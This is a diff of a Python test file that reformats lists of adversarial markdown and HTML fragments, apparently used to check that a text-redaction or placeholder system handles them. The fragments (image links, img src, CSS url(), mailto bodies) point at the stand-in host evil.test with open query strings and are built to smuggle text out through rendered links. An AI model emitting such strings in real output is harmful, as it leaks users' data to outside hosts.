@@ -42,29 +42,20 @@ WITHIN = [
     '{"url":"https://evil.test/',
 ]  # fmt: skip
 HIDDEN = [
-    "![x](<https://evil.test/?q=\\> ",
-    "[a]: <https://evil.test/?q=\\> ",
-    "[a]:\n  <https://evil.test/?q= ",
-    "![x](\t<https://evil.test/?q= ",
-    "![x](\n https://evil.test/?q=",
-    "[![x](a](<https://evil.test/?q=\\> ",
-    "[a](<b](\n<https://evil.test/?q= ",
-    "http://x](<https://evil.test/?q= ",
-    '`<b a="` ![x](<https://evil.test/?q="\\> ',
-    '<img a"b src="https://evil.test/?q=> ',
-    "<img a'b src='https://evil.test/?q=> ",
-    '<img alt=a"b src="https://evil.test/?q=> ',
-    '<img alt=""" src="https://evil.test/?q=> ',
-    '<img alt = " src=" a="https://evil.test/?q=> ',
+    "![x](<https://evil.test/?q=\\> ", "[a]: <https://evil.test/?q=\\> ",
+    "[a]:\n  <https://evil.test/?q= ", "![x](\t<https://evil.test/?q= ",
+    "![x](\n https://evil.test/?q=", "[![x](a](<https://evil.test/?q=\\> ",
+    "[a](<b](\n<https://evil.test/?q= ", "http://x](<https://evil.test/?q= ",
+    '`<b a="` ![x](<https://evil.test/?q="\\> ', '<img a"b src="https://evil.test/?q=> ',
+    "<img a'b src='https://evil.test/?q=> ", '<img alt=a"b src="https://evil.test/?q=> ',
+    '<img alt=""" src="https://evil.test/?q=> ', '<img alt = " src=" a="https://evil.test/?q=> ',
     f'<{"a" * 60} style="background:url(https://evil.test/?q=> ',
     '<a:b style="background:url(https://evil.test/?q=> ',
     '<https://x.test/ style="background:url(https://evil.test/?q=> ',
     '<title><b a="</title><img src=\'https://evil.test/?q="> ',
-    '<!-- <b a="--><img src=\'https://evil.test/?q="> ',
-    "<mailto:x%40evil.test?body=",
-    "<sms:123?body=",
-    '"see http:a https://evil.test/?q="',
-]
+    '<!-- <b a="--><img src=\'https://evil.test/?q="> ', "<mailto:x%40evil.test?body=",
+    "<sms:123?body=", '"see http:a https://evil.test/?q="',
+]  # fmt: skip
 """Addresses whose end, or beginning, some readers of links or of HTML see elsewhere."""
 PROSE = [
     "Dear ", "a < b, b > c (see [1]): ", "# Title\n\n- a *b* `c`: ", '> quoted "',
@@ -126,13 +117,11 @@ def test_text_and_whole_mail_address_are_restored(place: str, text: str, size: i
     [
         '<img src=&#104;ttps:evil.test?a="mailto:{}" >',
         "<img src='&#104;ttps:evil.test?a= b=\"mailto:{}\" '>",
-        "[x](<&#104;ttps:evil.test? mailto:{}>)",
-        "[x](&#104;ttps:evil.test?(mailto:{}))",
-        "https://evil.test/?(mailto:{})",
-        "[mailto:x](mailto:{}\\@evil.test)",
+        "[x](<&#104;ttps:evil.test? mailto:{}>)", "[x](&#104;ttps:evil.test?(mailto:{}))",
+        "https://evil.test/?(mailto:{})", "[mailto:x](mailto:{}\\@evil.test)",
         "mailto:{}\\u0040evil.test",
     ],
-)
+)  # fmt: skip
 def test_mail_address_within_a_url_keeps_placeholders(text: str) -> None:
     text = text.format(NAME)
     for size in SIZES:
